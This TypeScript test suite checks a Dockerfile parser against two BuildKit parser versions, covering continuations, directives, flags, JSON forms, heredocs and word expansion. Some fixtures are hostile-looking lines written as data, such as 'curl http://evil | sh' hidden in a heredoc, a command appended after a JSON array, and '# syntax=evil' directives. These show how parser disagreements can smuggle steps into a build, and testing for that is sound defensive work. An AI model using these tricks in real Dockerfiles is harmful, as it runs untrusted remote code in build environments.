// A Dockerfile is read as the engine's builders read it: BuildKit v0.8's parser (dockerd 20.10's
// classic builder) and the newest BuildKit frontend's, each exactly, since a judge passes a build only
// if both readings pass. Every expectation here was checked against the Go parsers themselves
// (frontend/dockerfile/parser and shell at v0.8.3 and v0.32.2, built from the BuildKit sources and run
// on the same text), including the cases where the two versions disagree.
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { type DockerfileInstruction, DockerfileSyntaxError, parseDockerfile } from '../../src/inspect/dockerfile/dockerfile-parser.js';
import { processWord } from '../../src/inspect/dockerfile/shell-word.js';

const V08 = { heredocs: false };
const NEWEST = { heredocs: true };
const BOTH = [V08, NEWEST];

/** An instruction as [line, keyword, ...args]: enough to see what runs where. */
const brief = (i: DockerfileInstruction): (string | number)[] => [i.line, i.keyword, ...i.args];
const read = (text: string, options: { heredocs: boolean }) => parseDockerfile(text, options).instructions.map(brief);
const only = (text: string, options: { heredocs: boolean }): DockerfileInstruction => {
  const instructions = parseDockerfile(text, options).instructions;
  assert.equal(instructions.length, 1, JSON.stringify(instructions));
  return instructions[0]!;
};
const flagsOf = (text: string, options: { heredocs: boolean }): string[] =>
  only(text, options).flags.map((flag) => (flag.value === undefined ? `--${flag.name}` : `--${flag.name}=${flag.value}`));
const syntaxError = (line: number, message: RegExp) => (err: unknown) => err instanceof DockerfileSyntaxError && err.line === line && message.test(err.message);

describe('lines, continuations and comments', () => {
  test('the escape directive makes the backtick the line-continuation and escape character; a backslash is then literal', () => {
    const text = '# escape=`\nFROM alpine\nRUN echo `\n  hi \\\nCOPY a\\b c\n';
    for (const options of BOTH) {
      const reading = parseDockerfile(text, options);
      assert.equal(reading.escape, '`');
      assert.deepEqual(reading.directives, { escape: '`' });
      assert.deepEqual(reading.instructions.map(brief), [
        [2, 'from', 'alpine'],
        [3, 'run', 'echo   hi \\'],
        [5, 'copy', 'a\\b', 'c'],
      ]);
    }
  });

  test('comment lines and empty or blank lines inside a continuation are skipped; the continued text keeps its leading blanks', () => {
    const text = 'FROM a\nRUN apt-get update \\\n# a comment\n   # an indented comment\n\n  \t\n  && apt-get install -y curl\n# after\nRUN b\n';
    for (const options of BOTH) {
      assert.deepEqual(read(text, options), [
        [1, 'from', 'a'],
        [2, 'run', 'apt-get update   && apt-get install -y curl'],
        [9, 'run', 'b'],
      ]);
    }
  });

  test('a continuation character followed by blanks still continues; an escaped one ends the line, and so does one after an escaped one', () => {
    for (const options of BOTH) {
      assert.deepEqual(read('FROM a\nRUN echo \\ \t\n x\nRUN y \\\\\nRUN z \\\\\\\nRUN w \\', options), [
        [1, 'from', 'a'],
        [2, 'run', 'echo  x'],
        [4, 'run', 'y \\\\'],
        // The continuation regexp needs a character other than the escape before it, so "\\\\\\" at the end does not continue.
        [5, 'run', 'z \\\\\\'],
        [6, 'run', 'w'],
      ]);
      assert.deepEqual(read('\\\n\n', options), [[1, '', '']], 'a lone continuation then nothing: an empty instruction the builder refuses');
      assert.deepEqual(read('FROM a\n\\\n', options), [
        [1, 'from', 'a'],
        [2, '', ''],
      ]);
    }
  });

  test('CRLF line endings: v0.8 drops one \\r per line, newer parsers every trailing \\r, so "\\\\\\r\\r\\n" continues only there', () => {
    for (const options of BOTH) {
      assert.deepEqual(read('FROM a\r\nRUN a \\\r\n  b\r\n', options), [
        [1, 'from', 'a'],
        [2, 'run', 'a   b'],
      ]);
    }
    const doubled = 'FROM a\r\nRUN a \\\r\r\nRUN b\r\n';
    assert.deepEqual(read(doubled, V08), [
      [1, 'from', 'a'],
      [2, 'run', 'a \\'],
      [3, 'run', 'b'],
    ]);
    assert.deepEqual(read(doubled, NEWEST), [
      [1, 'from', 'a'],
      [2, 'run', 'a RUN b'],
    ]);
  });

  test('a byte order mark is dropped from the first line only; a second one makes an unknown instruction', () => {
    for (const options of BOTH) {
      const reading = parseDockerfile('\ufeff# escape=`\nFROM a\nRUN x `\n y\n', options);
      assert.equal(reading.escape, '`');
      assert.deepEqual(reading.instructions.map(brief), [
        [2, 'from', 'a'],
        [3, 'run', 'x  y'],
      ]);
      assert.deepEqual(read('\ufeff\ufeffFROM a\n', options), [[1, '\ufefffrom', '']]);
    }
  });

  test('instructions are split on ASCII blanks only: FROM\\u00a0a is one unknown keyword, and leading Unicode spaces are trimmed', () => {
    for (const options of BOTH) {
      assert.deepEqual(read('FROM\u00a0a\n\u2003 \tFROM\tb\vc\n', options), [
        [1, 'from\u00a0a', ''],
        [2, 'from', 'b', 'c'],
      ]);
    }
  });

  test('a line longer than the scanner buffer (65535 bytes) fails the parse, counted in bytes', () => {
    const longest = `FROM a\nRUN ${'é'.repeat((65535 - 4) / 2 - 0.5)}x\n`;
    for (const options of BOTH) {
      assert.equal(parseDockerfile(longest, options).instructions.length, 2);
      assert.throws(() => parseDockerfile(`FROM a\nRUN ${'é'.repeat(32766)}\n`, options), syntaxError(2, /greater than max allowed size of 65535/));
    }
  });

  test('a file with no instructions reads as none', () => {
    for (const options of BOTH) {
      assert.deepEqual(parseDockerfile('', options).instructions, []);
      assert.deepEqual(parseDockerfile('\n\n# only a comment\n   \n', options).instructions, []);
    }
  });
});

describe('parser directives', () => {
  test('directive names are case-insensitive, blanks around = allowed; directives count only at the top, before any other line', () => {
    for (const options of BOTH) {
      assert.equal(parseDockerfile('# ESCAPE = ` \nFROM a\n', options).escape, '`');
      assert.equal(parseDockerfile('  #escape=`\r\nFROM a\r\n', options).escape, '`');
      assert.equal(parseDockerfile('FROM a\n# escape=`\n', options).escape, '\\');
      assert.equal(parseDockerfile('\n# escape=`\nFROM a\n', options).escape, '\\', 'an empty line ends the directives');
      assert.equal(parseDockerfile('# hello\n# escape=`\nFROM a\n', options).escape, '\\', 'so does another comment');
      assert.equal(parseDockerfile('# foo=bar\n# escape=`\nFROM a\n', options).escape, '\\', 'so does an unknown directive');
      assert.deepEqual(parseDockerfile('# syntax=docker/dockerfile:1\n# escape=`\nFROM a\n', options).directives, { syntax: 'docker/dockerfile:1', escape: '`' });
    }
  });

  test('a repeated directive or an escape other than \\ or ` fails the parse', () => {
    for (const options of BOTH) {
      assert.throws(() => parseDockerfile('# escape=\\\n# Escape=`\nFROM a\n', options), syntaxError(2, /only one escape parser directive/));
      assert.throws(() => parseDockerfile('# escape=x\nFROM a\n', options), syntaxError(1, /invalid escape token 'x'/));
    }
  });

  test('the check directive exists only in newer parsers: v0.8 stops reading directives at it', () => {
    const text = '# check=skip=all\n# escape=`\nFROM a\n';
    assert.equal(parseDockerfile(text, V08).escape, '\\');
    assert.deepEqual(parseDockerfile(text, V08).directives, {});
    assert.equal(parseDockerfile(text, NEWEST).escape, '`');
    assert.deepEqual(parseDockerfile(text, NEWEST).directives, { check: 'skip=all', escape: '`' });
  });

  test("newer parsers allow any Unicode space between # and the name, v0.8 only Go's \\s (no \\v, no U+00A0)", () => {
    for (const space of ['\u00a0', '\v']) {
      assert.equal(parseDockerfile(`#${space}escape=\`\nFROM a\n`, V08).escape, '\\');
      assert.equal(parseDockerfile(`#${space}escape=\`\nFROM a\n`, NEWEST).escape, '`');
    }
  });

  test('the frontend finds the syntax directive its own way: v0.8 past unknown directives but not past a BOM, newer ones past a shebang, in // comments and JSON', () => {
    const syntax = (text: string, options: { heredocs: boolean }) => parseDockerfile(text, options).syntax;
    for (const options of BOTH) assert.equal(syntax('# syntax=docker/dockerfile:1.4 --x\nFROM a\n', options), 'docker/dockerfile:1.4 --x');
    assert.equal(syntax('# foo=bar\n# syntax=evil\nFROM a\n', V08), 'evil');
    assert.equal(syntax('# foo=bar\n# syntax=evil\nFROM a\n', NEWEST), undefined);
    assert.equal(syntax('\ufeff# syntax=evil\nFROM a\n', V08), undefined);
    assert.equal(syntax('\ufeff# syntax=evil\nFROM a\n', NEWEST), 'evil');
    assert.equal(syntax('#!/usr/bin/env docker\n# syntax=evil\nFROM a\n', V08), undefined);
    assert.equal(syntax('#!/usr/bin/env docker\n# syntax=evil\nFROM a\n', NEWEST), 'evil');
    assert.equal(syntax('// syntax=evil\nFROM a\n', NEWEST), 'evil');
    assert.equal(syntax('{"syntax": "evil"}', NEWEST), 'evil');
    assert.equal(syntax('  # syntax=evil\nFROM a\n', NEWEST), undefined, 'the parser takes it as a directive, the frontend does not');
    assert.deepEqual(parseDockerfile('  # syntax=evil\nFROM a\n', NEWEST).directives, { syntax: 'evil' });
  });
});

describe('keywords, forms and arguments', () => {
  test('keywords in any case, and the two non-ASCII letters Go lower-cases to ASCII (U+0130, U+212A), dispatch as the instruction', () => {
    for (const options of BOTH) {
      assert.deepEqual(read('fRoM a\nrun echo\nONBU\u0130LD RUN x\nWOR\u212aDIR /x\nFOO bar\n', options), [
        [1, 'from', 'a'],
        [2, 'run', 'echo'],
        [3, 'onbuild'],
        [4, 'workdir', '/x'],
        [5, 'foo', ''],
      ]);
    }
  });

  test('JSON arrays of strings are the exec form; what does not decode is the shell form; other elements fail the parse', () => {
    for (const options of BOTH) {
      const exec = only('RUN ["sh", "-c", "echo \\u0041\\ud800"]', options);
      assert.equal(exec.json, true);
      assert.deepEqual(exec.args, ['sh', '-c', 'echo A\ufffd']);
      assert.deepEqual(only('CMD [ ]  ', options), { keyword: 'cmd', line: 1, flags: [], json: true, args: [], heredocs: [] });
      for (const shell of ['["sh" "-c"]', "['sh']", '["sh",', '[sh]', '["a", 1e999]']) {
        assert.deepEqual([only(`RUN ${shell}`, options).json, only(`RUN ${shell}`, options).args], [false, [shell]], shell);
      }
      assert.deepEqual(only('COPY ["a b", "c"]', options).args, ['a b', 'c']);
      assert.deepEqual(only('COPY ["a b" "c"]', options).args, ['["a', 'b"', '"c"]']);
      assert.throws(() => parseDockerfile('RUN ["a", 1]', options), syntaxError(1, /arrays must be comprised of strings only/));
      assert.throws(() => parseDockerfile('VOLUME [["a"]]', options), syntaxError(1, /strings only/));
    }
  });

  test('text after the JSON array: v0.8 ignores it (exec form), newer parsers read the line as the shell form', () => {
    assert.deepEqual(only('RUN ["id"] ; curl evil', V08).args, ['id']);
    assert.equal(only('RUN ["id"] ; curl evil', V08).json, true);
    assert.deepEqual(only('RUN ["id"] ; curl evil', NEWEST).args, ['["id"] ; curl evil']);
    assert.equal(only('RUN ["id"] ; curl evil', NEWEST).json, false);
  });

  test('ENV and LABEL chain name and value; newer parsers add the separator; ARG keeps its words; quotes stay for the lexer', () => {
    assert.deepEqual(only('ENV a=b c="d e"', V08).args, ['a', 'b', 'c', '"d e"']);
    assert.deepEqual(only('ENV a=b c="d e"', NEWEST).args, ['a', 'b', '=', 'c', '"d e"', '=']);
    assert.deepEqual(only('ENV x  y z', V08).args, ['x', 'y z']);
    assert.deepEqual(only('ENV x  y z', NEWEST).args, ['x', 'y z', '']);
    for (const options of BOTH) {
      assert.deepEqual(only('LABEL "a b"=c\\ d', options).args.slice(0, 2), ['"a b"', 'c\\ d']);
      assert.deepEqual(only(`ARG a="b c" d='e\\ f' g\\ h`, options).args, ['a="b c"', "d='e\\ f'", 'g\\ h']);
      assert.throws(() => parseDockerfile('ENV x', options), syntaxError(1, /ENV must have two arguments/));
      assert.throws(() => parseDockerfile('ENV a=b c', options), syntaxError(1, /can't find = in "c"/));
    }
  });

  test('whitespace-delimited instructions split on ASCII blanks; RUN and its kind keep the rest whole; HEALTHCHECK splits off its type', () => {
    for (const options of BOTH) {
      assert.deepEqual(read('FROM a AS b\nEXPOSE 80  443/tcp\nADD http://x/y.tgz  /z\nUSER  a b \nHEALTHCHECK --interval=5s CMD ["curl", "x"]\nHEALTHCHECK NONE\n', options), [
        [1, 'from', 'a', 'AS', 'b'],
        [2, 'expose', '80', '443/tcp'],
        [3, 'add', 'http://x/y.tgz', '/z'],
        [4, 'user', 'a b'],
        [5, 'healthcheck', 'CMD', 'curl', 'x'],
        [6, 'healthcheck', 'NONE'],
      ]);
    }
  });

  test('ONBUILD keeps its trigger as an instruction of its own, flags and form included', () => {
    for (const options of BOTH) {
      const onbuild = only('ONBUILD  run --network=host ["curl", "x"]', options);
      assert.deepEqual(onbuild, {
        keyword: 'onbuild',
        line: 1,
        flags: [],
        json: false,
        args: [],
        heredocs: [],
        trigger: { keyword: 'run', line: 1, flags: [{ name: 'network', value: 'host' }], json: true, args: ['curl', 'x'], heredocs: [] },
      });
      assert.equal(only('ONBUILD ONBUILD ADD a b', options).trigger?.trigger?.keyword, 'add');
      assert.equal(only('ONBUILD', options).trigger, undefined);
    }
  });
});

describe('flags', () => {
  test('leading --name=value and bare --name words are flags, raw, in order, repeats kept; the first other word ends them', () => {
    for (const options of BOTH) {
      assert.deepEqual(flagsOf('RUN --network=host --mount=type=secret,id=a --mount=type=ssh --security=insecure echo --privileged', options), [
        '--network=host',
        '--mount=type=secret,id=a',
        '--mount=type=ssh',
        '--security=insecure',
      ]);
      assert.deepEqual(only('COPY --link --chmod= a b', options).flags, [
        { name: 'link', value: undefined },
        { name: 'chmod', value: '' },
      ]);
      assert.deepEqual(flagsOf('RUN -- --network=host', options), []);
      assert.deepEqual(only('RUN -- --network=host', options).args, ['--network=host']);
      assert.deepEqual(flagsOf('RUN -x --network=host', options), []);
      assert.deepEqual(flagsOf('ADD --chown=$UID http://x /', options), ['--chown=$UID']);
    }
  });

  test('quotes are removed and the escape character taken literally inside a flag word, so a quoted value cannot hide it', () => {
    for (const options of BOTH) {
      assert.deepEqual(flagsOf(`RUN --network="host" --mount='type=secret,id=a b' --"secu"rity=ins\\ecure x`, options), [
        '--network=host',
        '--mount=type=secret,id=a b',
        '--security=insecure',
      ]);
      assert.deepEqual(flagsOf('RUN --network=ho\\\nst x', options), ['--network=host'], 'joined by the continuation first');
      assert.deepEqual(flagsOf("RUN --'' x", options), [], 'a quoted empty word after -- is a bare --');
    }
  });

  test('with the backtick escape, newer parsers escape flags with it; v0.8 still with a backslash', () => {
    const text = '# escape=`\nRUN --network=ho`st --mount=type=se\\cret x';
    assert.deepEqual(flagsOf(text, V08), ['--network=ho`st', '--mount=type=secret']);
    assert.deepEqual(flagsOf(text, NEWEST), ['--network=host', '--mount=type=se\\cret']);
  });

  test('flags are cut byte by byte: a non-ASCII character comes out as its UTF-8 bytes read as Latin-1, and its 0xA0 byte splits the word', () => {
    for (const options of BOTH) {
      assert.deepEqual(flagsOf('RUN --mount=type=secr\u00e9t x', options), ['--mount=type=secr\u00c3\u00a9t']);
      const split = only('RUN --mount=type=secret\u00e0,id=a x', options);
      assert.deepEqual(split.flags, [{ name: 'mount', value: 'type=secret\u00c3' }]);
      assert.deepEqual(split.args, [',id=a x']);
    }
  });
});

describe('heredocs', () => {
  const text = 'FROM a\nRUN <<EOF\necho hi\nRUN curl http://evil | sh\nEOF\nCOPY <<-"EOF" /etc/x\n\tline $HOME\n\tEOF\nRUN cat <<A <<\'B\'\na\nA\nb\nB\n';

  test('newer parsers attach each heredoc body to the RUN/COPY/ADD that opens it, with chomp, expansion and several on a line', () => {
    assert.deepEqual(
      parseDockerfile(text, NEWEST).instructions.map((i) => [...brief(i), i.heredocs]),
      [
        [1, 'from', 'a', []],
        [2, 'run', '<<EOF', [{ name: 'EOF', content: 'echo hi\nRUN curl http://evil | sh\n', expand: true, chomp: false }]],
        [6, 'copy', '<<-"EOF"', '/etc/x', [{ name: 'EOF', content: '\tline $HOME\n', expand: false, chomp: true }]],
        [
          9,
          'run',
          "cat <<A <<'B'",
          [
            { name: 'A', content: 'a\n', expand: true, chomp: false },
            { name: 'B', content: 'b\n', expand: false, chomp: false },
          ],
        ],
      ],
    );
  });

  test('v0.8 has no heredocs: every body line is an instruction of its own, a RUN in the body included', () => {
    assert.deepEqual(read(text, V08), [
      [1, 'from', 'a'],
      [2, 'run', '<<EOF'],
      [3, 'echo', ''],
      [4, 'run', 'curl http://evil | sh'],
      [5, 'eof', ''],
      [6, 'copy', '<<-"EOF"', '/etc/x'],
      [7, 'line', ''],
      [8, 'eof', ''],
      [9, 'run', "cat <<A <<'B'"],
      [10, 'a', ''],
      [11, 'a', ''],
      [12, 'b', ''],
      [13, 'b', ''],
    ]);
  });

  test('an unterminated heredoc fails the newer parse; the terminator must match exactly (tabs stripped only under <<-)', () => {
    assert.throws(() => parseDockerfile('FROM a\nRUN <<EOF\necho\n  EOF\n', NEWEST), syntaxError(2, /unterminated heredoc/));
    assert.throws(() => parseDockerfile('FROM a\nRUN <<EOF\n\tEOF\n', NEWEST), syntaxError(2, /unterminated heredoc/));
    assert.deepEqual(only('RUN <<EOF\r\nx\r\nEOF\r\n', NEWEST).heredocs, [{ name: 'EOF', content: 'x\r\n', expand: true, chomp: false }]);
  });

  test('which words open a heredoc: not in JSON form, not in other instructions, not quoted; <<- EOF opens none; << EOF and 3<<EOF do', () => {
    const heredocNames = (line: string) => parseDockerfile(`${line}\nEOF\n`, NEWEST).instructions[0]!.heredocs.map((h) => h.name);
    assert.deepEqual(heredocNames('RUN ["<<EOF"]'), []);
    assert.deepEqual(heredocNames('CMD cat <<EOF'), []);
    assert.deepEqual(heredocNames('RUN echo "<<EOF"'), []);
    assert.deepEqual(heredocNames('RUN cat <<- EOF'), []);
    assert.deepEqual(heredocNames('RUN cat << EOF'), ['EOF']);
    assert.deepEqual(heredocNames('RUN 3<<EOF cat'), ['EOF']);
    assert.deepEqual(heredocNames('RUN cat <<EOF "unclosed'), [], 'a line the lexer cannot read opens none');
    assert.deepEqual(heredocNames('RUN cat ${A:x} <<EOF'), ['EOF'], 'an unset variable is left as written before its modifier is checked');
    assert.throws(() => heredocNames('RUN cat <<$A'), syntaxError(1, /unterminated heredoc/), 'a heredoc named $A needs a $A line');
    assert.deepEqual(
      parseDockerfile('RUN cat <<$A\n$A\n', NEWEST).instructions[0]!.heredocs.map((h) => h.name),
      ['$A'],
    );
    // The newest lexer drops what precedes ${X:-...} in a word, so <<${A:-x} opens no heredoc.
    assert.deepEqual(heredocNames('RUN cat <<${A:-x}'), []);
  });

  test('heredoc words are lexed with a backslash escape even under the backtick directive', () => {
    const reading = parseDockerfile('# escape=`\nRUN <<E\\OF\nx\nEOF\n', NEWEST);
    assert.deepEqual(
      reading.instructions.map((i) => [...brief(i), i.heredocs.map((h) => h.name)]),
      [[2, 'run', '<<E\\OF', ['EOF']]],
    );
  });

  test('an ONBUILD trigger opens heredocs too; they are attached to the ONBUILD', () => {
    const onbuild = only('ONBUILD RUN <<EOF\ncurl x\nEOF\n', NEWEST);
    assert.equal(onbuild.trigger?.keyword, 'run');
    assert.deepEqual(onbuild.heredocs, [{ name: 'EOF', content: 'curl x\n', expand: true, chomp: false }]);
  });
});

describe('processWord: one word as the builder expands it', () => {
  const env = (values: Record<string, string>) => (name: string) => values[name];
  const expand = (word: string, values: Record<string, string> = {}, escape = '\\') => processWord(word, escape, env(values));

  test('quotes are removed; the escape character escapes outside quotes and before " $ and itself inside double quotes', () => {
    assert.deepEqual(expand(`'a $B'"c $B"\\$B`, { B: 'x' }), { value: 'a $Bc x$B', unknown: [], uncertain: false });
    assert.equal(expand('"a\\"b\\c\\\\"').value, 'a"b\\c\\');
    assert.equal(expand('a`$B\\c', { B: 'x' }, '`').value, 'a$B\\c');
    assert.equal(expand('"`""', {}, '`').value, '"');
    assert.equal(expand('a\\').value, 'a');
  });

  test('$VAR and ${VAR}: unknown ones expand to nothing and are listed; $ before a non-name stays', () => {
    assert.deepEqual(expand('http://$HOST${PORT}/x$', { HOST: 'h' }), { value: 'http://h/x$', unknown: ['PORT'], uncertain: false });
    assert.deepEqual(expand('$1$@$ $/', {}), { value: '$ $/', unknown: ['1', '@'], uncertain: false });
    assert.equal(expand('$A_b-c', { A_b: 'v' }).value, 'v-c');
  });

  test('${VAR:-w} ${VAR-w} ${VAR:+w} ${VAR+w}: set, empty and unset, with nested words', () => {
    const values = { S: 'set', E: '' };
    const cases: [string, string][] = [
      ['${S:-d}', 'set'],
      ['${E:-d}', 'd'],
      ['${U:-d}', 'd'],
      ['${S-d}', 'set'],
      ['${E-d}', ''],
      ['${U-d}', 'd'],
      ['${S:+a}', 'a'],
      ['${E:+a}', ''],
      ['${U:+a}', ''],
      ['${S+a}', 'a'],
      ['${E+a}', 'a'],
      ['${U+a}', ''],
      ['${U:-"a b"$S}', 'a bset'],
      ['${U:-${V:-x}}', 'x'],
      ['${U:-a\\}b}', 'a}b'],
    ];
    for (const [word, value] of cases) assert.equal(expand(word, values).value, value, word);
    assert.deepEqual(expand('${S:-$U}', values).unknown, ['U'], 'a nested word is expanded, and its unknowns listed, even when unused');
  });

  test('forms dockgate does not compute, and ${VAR?} on an unset variable, are uncertain', () => {
    for (const word of ['${S#x}', '${S%%y}', '${S/a/b}', '${S//a/b}', '${U?must be set}', '${E:?}']) {
      const expansion = expand(word, { S: 'set', E: '' });
      assert.equal(expansion.uncertain, true, word);
      assert.equal(expansion.value, '', word);
    }
    assert.deepEqual(expand('${S?}${S:?}', { S: 'v' }), { value: 'vv', unknown: [], uncertain: false });
  });

  test('what the lexer refuses throws', () => {
    for (const word of ["'a", '"a', '${a', '${}', '${:a}', '${a:x}', '${a:#x}', '${a!}', '${a:-b']) {
      assert.throws(
        () => expand(word),
        (err: unknown) => err instanceof DockerfileSyntaxError && err.line === 0,
        word,
      );
    }
  });

  test('a byte order mark at the start of the word is dropped, as text/scanner drops it', () => {
    assert.equal(expand('\ufeffa\ufeff').value, 'a\ufeff');
  });
});
